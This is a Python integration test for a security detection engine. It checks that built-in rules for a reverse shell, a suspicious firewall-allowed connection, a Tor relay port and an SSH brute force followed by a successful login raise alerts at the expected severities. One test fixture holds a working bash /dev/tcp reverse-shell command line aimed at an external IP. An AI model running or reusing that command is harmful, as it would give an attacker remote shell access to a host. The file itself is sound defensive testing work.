"""The built-in rules (rules/network, rules/endpoint) in the real vigild: every rule loads from
detect.rules_dir, and raw log lines sent over syslog (sshd, kernel iptables) and an endpoint event
posted through the API raise the alerts of the built-in rules with their levels: a reverse shell,
a suspicious service allowed by the firewall, an SSH brute force and the brute force followed by
a successful login (correlations), while the informational base rules that only feed
correlations raise none."""

import datetime
import os
import shutil
import socket
import sys
import time
import unittest
import uuid

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from harness import REPO, ServerTestCase, free_port  # noqa: E402

RULES_SRC = os.path.join(REPO, "rules")


def rule_ids():
    """title -> id of every built-in rule, and the number of rule documents."""
    ids, n = {}, 0
    for sub in ("network", "endpoint"):
        d = os.path.join(RULES_SRC, sub)
        for name in sorted(os.listdir(d)):
            if not name.endswith(".yml"):
                continue
            with open(os.path.join(d, name)) as f:
                for doc in f.read().split("\n---\n"):
                    title = rid = None
                    for line in doc.splitlines():
                        if line.startswith("title: "):
                            title = line[7:].strip()
                        elif line.startswith("id: "):
                            rid = line[4:].strip()
                    if title:
                        ids[title] = rid
                        n += 1
    return ids, n


def syslog_time(dt):
    return dt.strftime("%b ") + ("%2d" % dt.day) + dt.strftime(" %H:%M:%S")


def udp_send(port, msgs):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for m in msgs:
        s.sendto(m.encode(), ("127.0.0.1", port))
        time.sleep(0.002)
    s.close()


class BuiltinRulesTest(ServerTestCase):
    udp = None

    @classmethod
    def setUpClass(cls):
        if not os.path.isdir(os.path.join(RULES_SRC, "network")):
            raise unittest.SkipTest("rules/ is missing")
        cls.rules_tmp = os.path.join("/tmp", "vigil-it-rules-" + uuid.uuid4().hex[:8])
        for sub in ("network", "endpoint"):
            shutil.copytree(os.path.join(RULES_SRC, sub), os.path.join(cls.rules_tmp, sub))
        cls.udp = free_port()
        cls.config_text = ("detect:\n  rules_dir: %s\nsyslog:\n  udp: 127.0.0.1:%d\n  flush_ms: 50\n"
                           "reduction:\n  merge: false\n" % (cls.rules_tmp, cls.udp))
        super().setUpClass()

    @classmethod
    def tearDownClass(cls):
        super().tearDownClass()
        shutil.rmtree(cls.rules_tmp, ignore_errors=True)

    def alerts(self, rule_id):
        r = self.server.request("GET", "/api/v1/alerts?rule=" + rule_id, token=self.token)
        self.assertEqual(r.status, 200, r)
        return r.json()["alerts"]

    def wait_alerts(self, rule_id, timeout=30.0):
        deadline = time.time() + timeout
        while time.time() < deadline:
            a = self.alerts(rule_id)
            if a:
                return a
            time.sleep(0.2)
        self.fail("no alert of rule %s" % rule_id)

    def test_1_all_rules_load(self):
        _, n = rule_ids()
        deadline = time.time() + 30
        while True:
            r = self.server.request("GET", "/api/v1/rules", token=self.token)
            self.assertEqual(r.status, 200, r)
            eng = r.json()["engine"]
            if (not eng["pending"] and eng["rules"] >= n) or time.time() > deadline:
                break
            time.sleep(0.2)
        self.assertEqual(eng["load_failures"], 0, eng)
        self.assertEqual(eng["rules"], n, eng)

    def test_endpoint_reverse_shell(self):
        ids, _ = rule_ids()
        ev = {"@timestamp": datetime.datetime.now(datetime.timezone.utc).isoformat(),
              "agent": {"id": "it-agent-web-01"}, "host": {"name": "srv-web-01"},
              "event": {"id": "ev-" + uuid.uuid4().hex, "category": "process", "type": "start",
                        "action": "exec"},
              "process": {"executable": "/usr/bin/bash", "pid": 4242,
                          "command_line": "bash -c 'bash -i >& /dev/tcp/91.240.118.172/443 0>&1'",
                          "parent": {"executable": "/usr/sbin/apache2"}},
              "user": {"name": "www-data"}}
        r = self.server.ingest(self.token, [ev])
        self.assertEqual(r.status, 200, r)
        a = self.wait_alerts(ids["Linux Reverse Shell Command Line"])
        self.assertEqual(a[0]["severity"], "high")
        a = self.wait_alerts(ids["Web Server Or Database Spawning A Shell"])
        self.assertEqual(a[0]["severity"], "high")

    def test_firewall_line_over_syslog(self):
        ids, _ = rule_ids()
        now = datetime.datetime.now()
        line = ("<4>%s fw-cityhall kernel: [FWD-ACCEPT] IN=eth1 OUT=eth0 SRC=10.20.7.12 DST=185.220.101.34 "
                "LEN=60 TOS=0x00 PREC=0x00 TTL=63 ID=1 DF PROTO=TCP SPT=40000 DPT=9001 WINDOW=29200 "
                "RES=0x00 SYN URGP=0" % syslog_time(now))
        udp_send(self.udp, [line])
        a = self.wait_alerts(ids["Suspicious Service Connection Allowed By The Firewall"])
        self.assertEqual(a[0]["severity"], "medium")
        a = self.wait_alerts(ids["Internal Host Connecting To A Tor Relay Or Proxy Port"])
        self.assertEqual(a[0]["severity"], "high")
        # the base rule of the burst correlation only feeds it
        self.assertEqual(self.alerts(
            ids["Internal Host Connection Attempt To A Suspicious Service On The Internet"]), [])

    def test_ssh_brute_force_then_success_over_syslog(self):
        ids, _ = rule_ids()
        t0 = datetime.datetime.now()
        ip = "173.234.31.%d" % (100 + os.getpid() % 100)
        lines = ["<38>%s srv-gis-01 sshd[%d]: Failed password for invalid user admin%d from %s port %d ssh2"
                 % (syslog_time(t0), 24200 + i, i, ip, 38920 + i) for i in range(6)]
        lines.append("<38>%s srv-gis-01 sshd[24300]: Accepted password for gis from %s port 39001 ssh2"
                     % (syslog_time(t0 + datetime.timedelta(seconds=1)), ip))
        udp_send(self.udp, lines[:6])
        bf = self.wait_alerts(ids["SSH Brute Force"])
        self.assertEqual(bf[0]["severity"], "medium")
        udp_send(self.udp, lines[6:])
        both = self.wait_alerts(ids["SSH Brute Force Followed By A Successful Login"])
        self.assertEqual(both[0]["severity"], "critical")
        # the informational base rules and the stage correlation raise nothing of their own
        for title in ("SSH Failed Password", "SSH Successful Login", "SSH Brute Force Stage"):
            self.assertEqual(self.alerts(ids[title]), [], title)


if __name__ == "__main__":
    unittest.main()
